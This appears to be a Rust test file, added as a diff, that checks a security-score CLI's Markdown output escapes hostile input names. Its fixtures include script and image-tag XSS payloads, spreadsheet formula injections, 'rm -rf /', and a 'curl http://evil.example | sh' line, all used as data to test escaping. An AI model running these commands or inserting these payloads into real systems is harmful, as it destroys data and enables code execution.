@@ -1,0 +1,445 @@
+//! `-f markdown` (SPEC §8), read back by a CommonMark parser with GitHub's extensions
+//! (pulldown-cmark: tables, strike-through, maths): text from inputs makes no markup (no
+//! link, image, code, emphasis, HTML, heading, list or quote of its own), reads back as
+//! the input's text (control characters shown as `\u{…}`), and no `@` can mention
+//! anyone; the figures are the other formats'.
+
+mod common;
+
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use serde_json::Value;
+
+const AS_OF: &str = "2026-11-22";
+const HOSTILE: &str = "fixtures/markup-names.json";
+const DEMO: &str = "examples/contoso.json";
+
+/// What a run printed on standard output, which must have ended with `exit`.
+fn output(args: &[&str], exit: i32) -> String {
+    let out = common::run(args);
+    common::assert_exit(&out, exit);
+    String::from_utf8(out.stdout).expect("UTF-8")
+}
+
+fn parser(md: &str) -> Parser<'_> {
+    Parser::new_ext(
+        md,
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_MATH | Options::ENABLE_GFM,
+    )
+}
+
+/// What a reader sees of a parsed document: the text of each table cell, heading and
+/// paragraph, row by row (the empty comments that split mentions show nothing).
+#[derive(Debug, Default)]
+struct Seen {
+    /// Each table's rows, header first, as the text of their cells.
+    tables: Vec<Vec<Vec<String>>>,
+    headings: Vec<String>,
+    paragraphs: Vec<String>,
+}
+
+impl Seen {
+    /// Every cell of every table.
+    fn cells(&self) -> impl Iterator<Item = &String> {
+        self.tables.iter().flatten().flatten()
+    }
+
+    fn has_cell(&self, text: &str) -> bool {
+        self.cells().any(|c| c == text)
+    }
+}
+
+/// Parses `md`, failing on any markup that the program does not write itself: links,
+/// images, code, emphasis, strike-through, maths, quotes, ordered lists, code blocks,
+/// footnotes, and HTML other than the `<details>` block and the empty comments. Blocks
+/// may start only where a line of the raw text starts with their marker, so none comes
+/// from an input.
+fn read(md: &str) -> Seen {
+    assert!(
+        !md.chars()
+            .any(|c| c != '\n' && (c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c))),
+        "a control or bidirectional character in {md}"
+    );
+    let mut seen = Seen::default();
+    let mut text = String::new();
+    let mut row: Vec<String> = Vec::new();
+    let mut headings = 0;
+    let mut items = 0;
+    let mut tables = 0;
+    for event in parser(md) {
+        match event {
+            Event::Text(t) => text.push_str(&t),
+            Event::InlineHtml(h) => assert_eq!(&*h, "<!-- -->", "inline HTML in {md}"),
+            Event::Html(h) => {
+                let h = h.trim_end();
+                let summary = h
+                    .strip_prefix("<summary>")
+                    .and_then(|s| s.strip_suffix("</summary>"));
+                assert!(
+                    h == "<details>" || h == "</details>" || summary.is_some_and(|s| !s.contains(['<', '>'])),
+                    "HTML {h:?} in {md}"
+                );
+            }
+            Event::SoftBreak | Event::HardBreak => text.push('\n'),
+            Event::Start(Tag::Heading { .. }) => headings += 1,
+            Event::Start(Tag::Item) => items += 1,
+            Event::Start(Tag::Table(_)) => {
+                tables += 1;
+                seen.tables.push(Vec::new());
+            }
+            Event::Start(Tag::Strong) => {}
+            Event::Start(
+                Tag::Paragraph
+                | Tag::TableHead
+                | Tag::TableRow
+                | Tag::TableCell
+                | Tag::HtmlBlock
+                | Tag::List(None),
+            ) => {}
+            Event::End(TagEnd::TableCell) => row.push(std::mem::take(&mut text)),
+            Event::End(TagEnd::TableHead | TagEnd::TableRow) => {
+                seen.tables.last_mut().unwrap().push(std::mem::take(&mut row));
+            }
+            Event::End(TagEnd::Heading(_)) => seen.headings.push(std::mem::take(&mut text)),
+            Event::End(TagEnd::Paragraph) => seen.paragraphs.push(std::mem::take(&mut text)),
+            Event::End(_) => {}
+            other => panic!("{other:?} in {md}"),
+        }
+    }
+    let starting = |prefix: &str| md.lines().filter(|l| l.starts_with(prefix)).count();
+    assert_eq!(headings, starting("#"), "headings in {md}");
+    assert_eq!(items, starting("- "), "list items in {md}");
+    assert_eq!(tables, starting("|-"), "tables in {md}");
+    // Every `@` is split from what follows, so GitHub and GitLab find no mention.
+    for (i, _) in md.match_indices('@') {
+        assert!(md[i + 1..].starts_with("<!-- -->"), "an @ not split in {md}");
+    }
+    seen
+}
+
+/// The inventories the examples hold: the demo estate and each Azure example folder.
+fn examples() -> Vec<Vec<String>> {
+    let mut out = vec![vec![DEMO.to_string()]];
+    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/examples/azure");
+    let mut folders: Vec<_> = std::fs::read_dir(root)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.is_dir())
+        .collect();
+    folders.sort();
+    for folder in folders {
+        let mut files: Vec<String> = std::fs::read_dir(&folder)
+            .unwrap()
+            .map(|e| e.unwrap().path().to_string_lossy().into_owned())
+            .filter(|p| p.ends_with(".json"))
+            .collect();
+        files.sort();
+        out.push(files);
+    }
+    assert!(out.len() >= 6, "the demo and the Azure examples");
+    out
+}
+
+fn with_files(args: &[&str], files: &[String]) -> Vec<String> {
+    args.iter()
+        .map(|s| s.to_string())
+        .chain(files.iter().cloned())
+        .collect()
+}
+
+fn strs(args: &[String]) -> Vec<&str> {
+    args.iter().map(String::as_str).collect()
+}
+
+/// The score as the table's headline shows it (`Secure score 55.09%`).
+fn table_score(files: &[String]) -> String {
+    let text = output(&strs(&with_files(&["assess", "--as-of", AS_OF], files)), 0);
+    let line = text.lines().next().unwrap();
+    line.split("  ").next().unwrap().to_string()
+}
+
+#[test]
+fn every_example_reads_back_with_the_figures_of_the_other_formats() {
+    for files in examples() {
+        let json: Value = serde_json::from_str(&output(
+            &strs(&with_files(&["assess", "--as-of", AS_OF, "-f", "json"], &files)),
+            0,
+        ))
+        .unwrap();
+        let ranked = json["controls"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|c| !c["rank"].is_null())
+            .count();
+        let md = output(
+            &strs(&with_files(
+                &["assess", "--as-of", AS_OF, "-f", "markdown"],
+                &files,
+            )),
+            0,
+        );
+        let seen = read(&md);
+        assert_eq!(seen.headings[0], table_score(&files), "{files:?}");
+        // The ranked table, then the full ranking in the details: both hold every
+        // ranked control (no --top), one row each after the header.
+        let rankings: Vec<_> = seen.tables.iter().filter(|t| t[0][0] == "#").collect();
+        assert_eq!(rankings.len(), if ranked > 0 { 2 } else { 0 }, "{files:?}");
+        for t in rankings {
+            assert_eq!(t.len() - 1, ranked, "{files:?}");
+        }
+        for (command, extra) in [("explain", &["Enable MFA"][..]), ("plan", &["--steps", "3"][..])] {
+            let mut args = vec![command.to_string()];
+            args.extend(extra.iter().map(|s| s.to_string()));
+            args.extend(["--as-of", AS_OF, "-f", "markdown"].map(String::from));
+            args.extend(files.iter().cloned());
+            let out = common::run(&strs(&args));
+            // A folder without "Enable MFA" is refused (exit 2) as in every format.
+            if out.status.code() == Some(0) {
+                read(&String::from_utf8(out.stdout).unwrap());
+            }
+        }
+    }
+}
+
+#[test]
+fn top_cuts_the_ranked_table_and_the_details_keep_every_control() {
+    let md = output(
+        &["assess", DEMO, "--as-of", AS_OF, "-f", "markdown", "--top", "3"],
+        0,
+    );
+    let seen = read(&md);
+    let rankings: Vec<_> = seen.tables.iter().filter(|t| t[0][0] == "#").collect();
+    assert_eq!(rankings[0].len() - 1, 3);
+    assert!(rankings[1].len() - 1 > 3);
+    assert_eq!(rankings[0][1..], rankings[1][1..4]);
+    assert!(md.contains("\n<details>\n<summary>Full ranking ("), "{md}");
+    assert!(md.trim_end().ends_with("</details>"), "{md}");
+}
+
+#[test]
+fn the_gate_verdict_is_in_the_headline() {
+    let failed = output(
+        &[
+            "assess",
+            DEMO,
+            "--as-of",
+            AS_OF,
+            "-f",
+            "markdown",
+            "--fail-under",
+            "90",
+        ],
+        1,
+    );
+    let lines: Vec<&str> = failed.lines().collect();
+    assert!(lines[0].starts_with("## Secure score "), "{failed}");
+    assert!(lines[2].starts_with("❌ **Gate FAILED**: "), "{failed}");
+    assert!(lines[4].starts_with("Model classic · "), "{failed}");
+    let passed = output(
+        &[
+            "assess",
+            DEMO,
+            "--as-of",
+            AS_OF,
+            "-f",
+            "markdown",
+            "--fail-under",
+            "10",
+        ],
+        0,
+    );
+    assert!(
+        passed.lines().nth(2).unwrap().starts_with("✅ **Gate passed**: "),
+        "{passed}"
+    );
+}
+
+#[test]
+fn hostile_names_read_back_as_text_and_make_no_markup() {
+    let md = output(&["assess", HOSTILE, "--as-of", AS_OF, "-f", "markdown"], 0);
+    let seen = read(&md);
+    // Each name reads back as itself; control characters as on a terminal.
+    for name in [
+        "=HYPERLINK(\"http://evil.example\",\"click\")",
+        "@user please look | `rm -rf /` *now*",
+        "# Heading [link](http://evil.example) <img src=x onerror=alert(1)> & ~~gone~~ www.evil.example",
+        "\\u{1b}[31mred\\u{1b}[0m\\u{9}tab\\u{d}\\u{a}new line \\u{202e}evil",
+        "Prod | @user <script>alert(1)</script> (5e1f0000-0000-4000-8000-000000000001)",
+        "`two` *bold* _it_ #42 https://evil.example (5e1f0000-0000-4000-8000-000000000002)",
+    ] {
+        assert!(seen.has_cell(name), "no cell {name:?} in {md}");
+    }
+    assert!(
+        seen.paragraphs
+            .iter()
+            .any(|p| p == "Not applicable (no assessed resource): +cmd|' /C calc'!A0"),
+        "{md}"
+    );
+    // The warning about the recommendation no control holds names it, quoted.
+    assert!(
+        seen.cells()
+            .any(|c| c.contains("\"@everyone <script>x</script>\"")),
+        "{md}"
+    );
+    for raw in ["<script", "<img", "@user", "@everyone", "https://", "www.evil"] {
+        assert!(!md.contains(raw), "{raw:?} in {md}");
+    }
+}
+
+#[test]
+fn every_command_with_markdown_escapes_hostile_names() {
+    let runs: [&[&str]; 4] = [
+        &["explain", "ctl-formula", HOSTILE],
+        &["explain", "ctl-markup", HOSTILE],
+        &["plan", HOSTILE, "--steps", "5"],
+        &["diff", HOSTILE, DEMO],
+    ];
+    for args in runs {
+        let mut args = args.to_vec();
+        args.extend(["--as-of", AS_OF, "-f", "markdown"]);
+        let md = output(&args, 0);
+        let seen = read(&md);
+        for raw in [
+            "<script",
+            "<b>",
+            "<img",
+            "@admin",
+            "@security",
+            "@user",
+            "https://",
+        ] {
+            assert!(!md.contains(raw), "{raw:?} in {md}");
+        }
+        assert!(!seen.cells().any(|c| c.contains('\u{1b}')));
+    }
+    // explain: the heading is the control's name and id; the fix and the exemption's
+    // reason read back as given.
+    let md = output(
+        &[
+            "explain",
+            "ctl-formula",
+            HOSTILE,
+            "--as-of",
+            AS_OF,
+            "-f",
+            "markdown",
+        ],
+        0,
+    );
+    let seen = read(&md);
+    assert_eq!(
+        seen.headings[0],
+        "=HYPERLINK(\"http://evil.example\",\"click\") (ctl-formula)"
+    );
+    assert!(
+        md.contains("\n- To fix =1+1 \\| &lt;b&gt;bold&lt;/b&gt;: Run \\`curl http:<!-- -->//evil.example \\| sh\\` as @<!-- -->admin\n"),
+        "{md}"
+    );
+    assert!(seen.has_cell(
+        "/subscriptions/5e1f0000-0000-4000-8000-000000000001/resourceGroups/rg|1/providers/x/y/@vm<1>"
+    ));
+    let md = output(
+        &[
+            "explain",
+            "ctl-markup",
+            HOSTILE,
+            "--as-of",
+            AS_OF,
+            "-f",
+            "markdown",
+        ],
+        0,
+    );
+    assert!(read(&md).has_cell("@security-team said <b>ok</b>"), "{md}");
+    // diff: the controls that moved are named as they are.
+    let md = output(&["diff", HOSTILE, DEMO, "--as-of", AS_OF, "-f", "markdown"], 0);
+    assert!(read(&md).has_cell("@user please look | `rm -rf /` *now*"), "{md}");
+}
+
+#[test]
+fn diff_shows_before_after_the_waterfall_and_the_moves() {
+    let before = "fixtures/triage/diff-before.json";
+    let after = "fixtures/triage/diff-after.json";
+    let json: Value = serde_json::from_str(&output(
+        &["diff", before, after, "--as-of", AS_OF, "-f", "json"],
+        0,
+    ))
+    .unwrap();
+    let md = output(
+        &[
+            "diff",
+            before,
+            after,
+            "--as-of",
+            AS_OF,
+            "-f",
+            "markdown",
+            "--max-drop",
+            "1",
+        ],
+        1,
+    );
+    let seen = read(&md);
+    // The title as the table's first line has it.
+    let table = output(&["diff", before, after, "--as-of", AS_OF], 0);
+    let title = table.lines().next().unwrap().split("  ").next().unwrap();
+    assert!(
+        seen.headings[0].starts_with(title),
+        "{} vs {title}",
+        seen.headings[0]
+    );
+    assert!(md.contains("❌ **Gate FAILED**: --max-drop 1.00"), "{md}");
+    let waterfall = seen
+        .tables
+        .iter()
+        .find(|t| t[0][0] == "Cause" && t[0][1] == "Change")
+        .unwrap();
+    let causes: Vec<&str> = waterfall[1..].iter().map(|r| r[0].as_str()).collect();
+    assert_eq!(
+        causes,
+        [
+            "removed",
+            "added",
+            "regressed",
+            "fixed",
+            "exemptions",
+            "catalog",
+            "total"
+        ]
+    );
+    for (row, step) in waterfall[1..7].iter().zip(json["waterfall"].as_array().unwrap()) {
+        assert_eq!(row[2], step["resources"].as_array().unwrap().len().to_string());
+    }
+    assert!(seen.headings.iter().any(|h| h == "Controls that moved"));
+}
+
+#[test]
+fn trend_and_plan_read_back() {
+    for args in [
+        &["trend", "fixtures/history/runs.jsonl"][..],
+        &["trend", "fixtures/history/two-series.jsonl"],
+        &["plan", DEMO, "--target", "80", "--as-of", AS_OF],
+    ] {
+        let mut args = args.to_vec();
+        args.extend(["-f", "markdown"]);
+        let seen = read(&output(&args, 0));
+        assert!(!seen.tables.is_empty(), "{args:?}");
+    }
+    let seen = read(&output(
+        &["trend", "fixtures/history/two-series.jsonl", "-f", "markdown"],
+        0,
+    ));
+    assert!(seen.headings.iter().filter(|h| h.starts_with("Series ")).count() >= 2);
+}
+
+#[test]
+fn markdown_is_not_offered_where_there_is_no_page() {
+    for args in [
+        &["validate", DEMO, "-f", "markdown"][..],
+        &["controls", "-f", "markdown"],
+    ] {
+        let out = common::run(args);
+        common::assert_exit(&out, 2);
+        assert!(String::from_utf8_lossy(&out.stderr).contains("invalid value 'markdown'"));
+    }
+}
